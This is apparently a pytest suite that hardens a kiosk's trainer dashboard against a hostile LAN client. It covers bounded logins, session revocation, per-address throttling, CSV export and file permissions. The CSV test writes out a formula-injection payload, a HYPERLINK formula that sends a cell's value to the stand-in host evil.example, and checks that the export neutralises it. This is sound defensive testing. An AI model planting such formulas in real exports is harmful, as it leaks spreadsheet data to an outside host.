"""The dashboard against a hostile LAN client: bounded logins, revocable sessions, safe CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
import logging
import sqlite3
import stat
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from starlette.testclient import TestClient
from support.dashboard_data import add_session, summary
from support.dashboard_web import PASSWORD, TRAINER, add_trainer, csrf_of, log_in, station_config

from dashboard.accounts import Accounts
from dashboard.app import COOKIE
from dashboard.server import build_app
from kiosk.store.database import Member, Store


def reuse_cookie(app_client: TestClient, cookie: str) -> TestClient:
    """A second browser that was handed a saved copy of a login cookie."""
    other = TestClient(app_client.app)
    other.cookies.set(COOKIE, cookie)
    return other


# -- 1. an anonymous flood cannot grow the dashboard ------------------------------------------


def test_an_overlong_login_is_refused_unread_untracked_and_logged_short(
    client: TestClient, caplog: pytest.LogCaptureFixture
) -> None:
    token = csrf_of(client.get("/login").text)
    caplog.set_level(logging.INFO, logger="dashboard")
    huge = client.post("/login", data={"username": "x" * 100_000, "password": "p", "csrf": token})
    long = client.post("/login", data={"username": "y" * 65, "password": "p", "csrf": token})
    assert huge.status_code == 413 and long.status_code == 400
    assert len(client.app.state.board.throttle) == 0  # nothing kept for either
    assert all(len(r.getMessage()) < 200 for r in caplog.records)
    assert log_in(client).status_code == 200  # the trainer is not slowed by them


# -- 2. sessions end on the server ------------------------------------------------------------


def test_a_cookie_saved_before_logout_no_longer_opens_members(trainer: TestClient) -> None:
    saved = trainer.cookies[COOKIE]
    assert reuse_cookie(trainer, saved).get("/members").status_code == 200
    token = csrf_of(trainer.get("/members").text)
    assert trainer.post("/logout", data={"csrf": token}, follow_redirects=False).status_code == 303
    replay = reuse_cookie(trainer, saved).get("/members", follow_redirects=False)
    assert replay.status_code == 303 and replay.headers["location"].startswith("/login")


def test_after_removing_and_re_adding_a_trainer_the_old_cookie_fails(
    trainer: TestClient, seeded: tuple[Path, dict[str, int]]
) -> None:
    saved = trainer.cookies[COOKIE]
    accounts = Accounts(seeded[0] / "dashboard.sqlite3")
    assert accounts.remove(TRAINER)
    accounts.add(TRAINER, PASSWORD)
    accounts.close()
    assert reuse_cookie(trainer, saved).get("/members", follow_redirects=False).status_code == 303


def test_a_new_password_ends_the_trainers_logins(
    trainer: TestClient, seeded: tuple[Path, dict[str, int]]
) -> None:
    toml = seeded[0].parent / "backstep.toml"
    toml.write_text(f'[storage]\ndata_dir = "{seeded[0]}"\n')
    from kiosk.cli import main

    out = CliRunner().invoke(
        main,
        ["trainers", "password", TRAINER, "--password-stdin", "--config", str(toml)],
        input="a brand new passphrase\n",
    )
    assert out.exit_code == 0, out.output
    assert trainer.get("/members", follow_redirects=False).status_code == 303
    assert log_in(trainer, password="a brand new passphrase").status_code == 200


def test_a_login_idle_longer_than_the_staff_file_allows_ends(
    seeded: tuple[Path, dict[str, int]],
) -> None:
    cfg = station_config(seeded[0])
    cfg.dashboard.session_idle_minutes = 5
    with TestClient(build_app(cfg)) as c:
        assert log_in(c).status_code == 200
        db = sqlite3.connect(seeded[0] / "dashboard.sqlite3")
        db.execute("UPDATE logins SET last_seen = last_seen - 4 * 60")
        db.commit()
        assert c.get("/members").status_code == 200  # 4 minutes idle: still in (and touched)
        db.execute("UPDATE logins SET last_seen = ?", (time.time() - 6 * 60,))
        db.commit()
        db.close()
        assert c.get("/members", follow_redirects=False).status_code == 303


# -- 3. the throttle is per (name, address) -----------------------------------------------------


def test_a_trainer_gets_in_from_their_own_address_while_another_hammers_their_name(
    seeded: tuple[Path, dict[str, int]],
) -> None:
    app = build_app(station_config(seeded[0]))
    with (
        TestClient(app, client=("192.168.1.66", 40000)) as attacker,
        TestClient(app, client=("192.168.1.20", 40001)) as own,
    ):
        codes = [log_in(attacker, password=f"guess {i}").status_code for i in range(12)]
        assert codes[:5] == [401] * 5 and set(codes[5:]) == {429}
        assert log_in(attacker).status_code == 429  # even the right password waits there
        assert log_in(own).status_code == 200
        assert own.get("/members").status_code == 200


def test_the_wait_grows_with_each_failure_and_is_said_in_seconds(client: TestClient) -> None:
    throttle = client.app.state.board.throttle
    for _ in range(5):
        assert log_in(client, password="guess").status_code == 401
    first = throttle.wait_s(f"user:{TRAINER}|ip:testclient")
    r = log_in(client, password="guess")
    assert r.status_code == 429 and "try again in" in r.text and " s." in r.text
    assert 0 < first <= 2.0


# -- 4. CSV from the dashboard ------------------------------------------------------------------


def test_dashboard_csv_neutralises_hostile_member_names(
    trainer: TestClient, seeded: tuple[Path, dict[str, int]]
) -> None:
    name = '=HYPERLINK("http://evil.example/?"&B2,"x")'
    with Store(seeded[0] / "backstep.sqlite3") as store:
        store.upsert_members([Member("H1", name, _expiry())])
        add_session(store, "H1", time.time() - 3600, summary(3, 0.9, 75, -2.5), 5)
    rows = list(csv.DictReader(io.StringIO(trainer.get("/members/H1/sessions.csv").text)))
    assert [(r["member_name"], r["mean_trunk_lean_deg"]) for r in rows] == [("'" + name, "-2.5")]
    every = list(csv.DictReader(io.StringIO(trainer.get("/sessions.csv").text)))
    assert not [r for r in every if r["member_name"].startswith(("=", "+", "-", "@"))]


def _expiry() -> dt.date:
    return dt.date.today() + dt.timedelta(days=30)


# -- 5. smaller ---------------------------------------------------------------------------------


@pytest.mark.parametrize("number", ["9" * 20, "9" * 39, "9" * 5000, "1e3", "١٢"])
def test_a_session_number_that_names_no_session_is_not_found(
    trainer: TestClient, number: str
) -> None:
    assert trainer.get(f"/sessions/{number}").status_code == 404
    assert trainer.get(f"/sessions/{number}/samples.csv").status_code == 404


def test_trainers_add_refuses_a_password_over_1024_characters(tmp_path: Path) -> None:
    toml = tmp_path / "backstep.toml"
    toml.write_text(f'[storage]\ndata_dir = "{tmp_path / "data"}"\n')
    from kiosk.cli import main

    out = CliRunner().invoke(
        main,
        ["trainers", "add", "coach", "--password-stdin", "--config", str(toml)],
        input="p" * 5_000_000 + "\n",
    )
    assert out.exit_code != 0 and "at most 1024" in out.output
    with pytest.raises(ValueError, match="at most 1024"):
        Accounts(tmp_path / "acc.sqlite3").add("coach", "p" * 1025)


def test_database_files_are_created_owner_only(tmp_path: Path) -> None:
    data = tmp_path / "data"
    add_trainer(data)
    with Store(data / "backstep.sqlite3") as store:
        store.upsert_members([Member("1", "Ada", _expiry())])
        files = sorted(data.glob("*.sqlite3*"))
        assert {f.name for f in files} >= {"backstep.sqlite3", "dashboard.sqlite3"}
        for f in files:
            assert stat.S_IMODE(f.stat().st_mode) == 0o600, f.name
